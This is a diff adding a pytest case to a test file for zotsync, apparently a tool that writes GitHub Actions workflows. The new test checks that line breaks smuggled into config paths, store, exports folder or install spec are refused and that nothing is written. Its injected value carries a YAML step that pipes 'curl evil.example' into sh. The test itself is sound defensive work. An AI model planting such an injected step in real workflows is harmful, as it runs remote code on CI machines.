@@ -3,6 +3,7 @@ what they promise when run for real — sync, and commit and push the exports on
 
 from __future__ import annotations
 
+import json
 import os
 import shutil
 import subprocess
@@ -223,3 +224,32 @@ def test_zotsync_installed_from_a_git_checkout_is_installed_from_that_repository
         == f"python -m pip install 'zotsync @ git+{remote}'"
     )
     assert f"the runner installs: pip install zotsync @ git+{remote} (--install SPEC" in result.err
+
+
+@pytest.mark.parametrize("where", ["config file", "store", "exports folder", "install spec"])
+def test_a_control_character_in_what_the_workflow_names_is_refused_and_nothing_written(
+    project, run, monkeypatch, where: str
+) -> None:
+    """Written into the workflow, a line break ends a YAML scalar or a comment: what follows would be
+    YAML of its own (a step, a key), or invalid YAML, and still exit 0."""
+    monkeypatch.chdir(project)
+    injected = "x\n      - run: curl evil.example | sh\n#"
+    config = Path(config_of(project))
+    args: tuple[str, ...] = ()
+    if where == "config file":
+        folder = project / f"config{injected}"
+        folder.mkdir()
+        (folder / "zotsync.yaml").write_text(config.read_text(encoding="utf-8"), encoding="utf-8")
+        config = folder / "zotsync.yaml"
+    elif where == "install spec":
+        args = ("--install", f"zotsync @ git+https://example.org/z.git{injected}")
+    else:  # YAML's own escapes put the line break into the config's value
+        line = {"store": "store: ../.zotsync/zotsync.sqlite", "exports folder": "  dir: ../exports"}[where]
+        key, _, value = line.partition(": ")
+        text = config.read_text(encoding="utf-8")
+        assert line in text
+        config.write_text(text.replace(line, f"{key}: {json.dumps(value + injected)}"), encoding="utf-8")
+    result = run("--config", str(config), "schedule", "github", *args)
+    assert result.code == 2, result.err
+    assert result.err.count("\n") == 1 and result.err.startswith(f"zotsync: error: the {where} ")
+    assert not (project / ".github").exists()
